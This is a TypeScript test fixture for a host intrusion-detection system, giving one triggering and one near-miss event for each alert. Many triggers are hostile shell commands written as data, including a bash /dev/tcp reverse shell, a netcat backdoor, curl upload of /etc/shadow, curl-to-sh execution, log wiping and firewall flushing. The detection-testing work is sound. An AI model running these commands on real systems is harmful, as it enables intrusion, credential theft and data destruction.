/** One deed and one near miss for every alert, as facts: the whole-set test runs them through all means of the alert. */
import type { AlertId } from "../../alerts/catalogue.ts";
import type { Container, ContainerDetail, Fact, LoginFailed, LoginSucceeded } from "../../events/fact.ts";
import { below, ran, script, tick } from "./root-shell.ts";

export interface Proof {
  readonly hit: readonly Fact[];
  readonly near: readonly Fact[];
  readonly settings?: object;
}

/** Listed by the test's threat intelligence. */
export const listedAddress = "203.0.113.9";

const hour = 3_600_000;
const line = (hit: string, near: string): Proof => ({ hit: [script(hit)], near: [script(near)] });
/** The same, where a finding waits for counter-evidence. */
const waiting = (hit: string, near: string): Proof => ({
  hit: [script(hit), tick(hour)],
  near: [script(hit), script(near, {}, 2000), tick(hour)],
});

const login = (more: Partial<LoginFailed> = {}): LoginFailed => ({
  kind: "login.failed",
  at: 1000,
  method: "password",
  service: "sshd",
  user: "eve",
  ...more,
});
const entered = (more: Partial<LoginSucceeded> = {}): Fact =>
  ({ ...login(), ...more, kind: "login.succeeded" }) as Fact;
const guesses = (count: number) =>
  Array.from({ length: count }, (_, i) => login({ at: i * 2000, pid: 100 + i, source: { ip: "203.0.113.5" } }));
const console = { service: "login", terminal: "tty1" };

const container = (detail: Partial<ContainerDetail>): Fact => {
  const bare: Container = { id: "c".repeat(64), name: "web", image: "acme/app:1" };
  const none = { capAdd: [], binds: [], labels: {}, command: [], entrypoint: [], environment: [] };
  return { kind: "container.started", at: 1000, container: { ...bare, ...none, privileged: false, ...detail } };
};
const connected = (ip: string): Fact => ({ kind: "socket.connected", at: 1000, destination: { ip, port: 443 } });
const group = (kind: "group.joined" | "group.left", name: string): Fact => ({
  kind,
  at: 1000,
  user: "eve",
  group: name,
});
const served = below("/usr/sbin/nginx");
const message = (at: number): Fact => ({ kind: "message.seen", at, deviceId: "d", moduleId: "m", bytes: 9 });
const silence = (hours: number): Fact[] => [
  { kind: "hub.silence", at: hours * hour, from: 0, to: hours * hour, reboots: 0, clockStepMs: 0 },
];

/** Typed by the ids, so that a new alert does not compile without its proof. `alerts-held-back` is the limiter's own. */
export const proofs: Record<Exclude<AlertId, "alerts-held-back">, Proof> = {
  "attack-tools": line("hydra -l root -P w.txt ssh://192.0.2.7", "man hydra"),
  "auditd-disabled": line("systemctl stop auditd", "systemctl status auditd"),
  "bash-history-cleared": line("history -c", "history 20"),
  "binary-command-line": line("find / -exec /bin/sh \\;", "find / -exec ls {} \\;"),
  "brute-force-failed": { hit: guesses(8), near: guesses(7) },
  "brute-force-success": {
    hit: [...guesses(8), entered({ at: 20_000, source: { ip: "203.0.113.5" } })],
    near: [...guesses(8), entered({ at: 20_000, source: { ip: "203.0.113.6" } })],
  },
  "common-files-overwritten": line("cp /tmp/k /bin/netstat", "cp /tmp/k /opt/netstat"),
  "common-linux-bots": line("/bin/busybox QWXZK", "/bin/busybox ls"),
  "coverage-lost": {
    hit: [{ kind: "coverage.lost", at: 1000, source: "audit-log", lost: 2, reason: "full" }],
    near: [{ kind: "coverage.lost", at: 1000, source: "audit-log", lost: 1, reason: "full" }],
    settings: { minimumLost: 2 },
  },
  "credential-access-tools": line("cat /etc/shadow", "ls -l /etc/shadow"),
  "crypto-miner-container-image": {
    hit: [container({ image: "who/monero-miner:1" })],
    near: [container({ image: "who/monerod:1" })],
  },
  "crypto-miner-process": line("/opt/x/xmrig -c c.json", "man xmrig"),
  "custom-active-connections": {
    hit: [0, hour].map((at) => ({ kind: "sockets.counted" as const, at, established: 101 })),
    near: [0, hour].map((at) => ({ kind: "sockets.counted" as const, at, established: 100 })),
  },
  "custom-connection-not-allowed": {
    hit: [connected("203.0.113.7")],
    near: [connected("203.0.113.6")],
    settings: { allowedAddresses: ["203.0.113.6"] },
  },
  "custom-failed-local-logins": {
    hit: Array.from({ length: 6 }, (_, i) => login({ at: i, ...console })),
    near: Array.from({ length: 5 }, (_, i) => login({ at: i, ...console })),
  },
  "custom-login-not-allowed": {
    hit: [entered({ user: "eve" })],
    near: [entered({ user: "joe" })],
    settings: { allowedUsers: ["joe"] },
  },
  "custom-message-count": { hit: [message(1), message(2)], near: [message(1)], settings: { max: 1 } },
  "custom-process-not-allowed": {
    hit: [ran(["nc"])],
    near: [ran(["ls"])],
    settings: { allowed: ["/usr/bin/ls"] },
  },
  "device-silent": { hit: silence(72), near: silence(71) },
  "download-then-run": line("curl -s http://files.example/i | sh", "curl -s http://files.example/i | gzip -d"),
  "exposed-docker-daemon": line("dockerd -H tcp://0.0.0.0:2375", "docker -H tcp://192.0.2.7:2375 ps"),
  "fairware-ransomware": line("rm -rf /var/www", "rm -rf /var/cache/apt"),
  "firewall-disabled": waiting("iptables -F", "iptables -P INPUT DROP"),
  "htaccess-access": line("touch /var/www/html/.htaccess", "cat /var/www/html/.htaccess"),
  "local-host-reconnaissance": line("find / -perm -4000", "find / -name core"),
  "local-login-failed": { hit: [login(console)], near: [login({ source: { ip: "192.0.2.7" } })] },
  "local-login-success": { hit: [entered(console)], near: [entered({ source: { ip: "192.0.2.7" } })] },
  "local-user-deleted": line("userdel eve", "userdel --help"),
  "malicious-source-download": line(`wget http://${listedAddress}/a`, "wget http://files.example/a"),
  "port-forwarding": line("ssh -fNR 9000:127.0.0.1:22 192.0.2.7", "ssh -J jump 192.0.2.7"),
  "possible-backdoor": line("nc -lp 7000 -e /bin/sh", "nc -lp 7000"),
  "possible-data-loss": line("curl -T /etc/shadow http://192.0.2.7/", "curl http://192.0.2.7/"),
  "privileged-container": { hit: [container({ privileged: true })], near: [container({ capAdd: ["SYS_ADMIN"] })] },
  "ransomware-like": line("find /srv -exec openssl enc -aes-256-ctr -in {} -out {}.x \\;", "gpg --verify a.asc"),
  "reverse-shell": line("bash -i >& /dev/tcp/192.0.2.7/80 0>&1", "bash -i"),
  "script-interpreter-mismatch": line("sh /tmp/a.png", "sh /tmp/a.sh"),
  "space-after-filename": { hit: [ran(["/tmp/a.txt "], { exe: "/tmp/a.txt " })], near: [ran(["/tmp/a.txt"])] },
  "suspicious-compilation": line("gcc /tmp/x.c -o /tmp/x", "gcc --version"),
  "suspicious-ip": { hit: [connected(listedAddress)], near: [connected("203.0.113.10")] },
  "suspicious-nohup": line("nohup /tmp/agent", "nohup java -jar app.jar"),
  "suspicious-useradd": line("useradd -o -u 0 eve", "useradd -r -s /usr/sbin/nologin eve"),
  "system-log-removal": line("rm -f /var/log/auth.log", "rm -f /var/log/auth.log.2.gz"),
  "twin-config-parse-failure": {
    hit: [{ kind: "configuration.rejected", at: 1000, path: "a", expected: "number", got: "x" }],
    near: [tick(1000)],
  },
  "user-added-to-group": { hit: [group("group.joined", "sudo")], near: [group("group.left", "sudo")] },
  "user-removed-from-group": { hit: [group("group.left", "sudo")], near: [group("group.joined", "sudo")] },
  "web-shell": { hit: [script("id", served)], near: [script("convert a.png b.png", served)] },
};
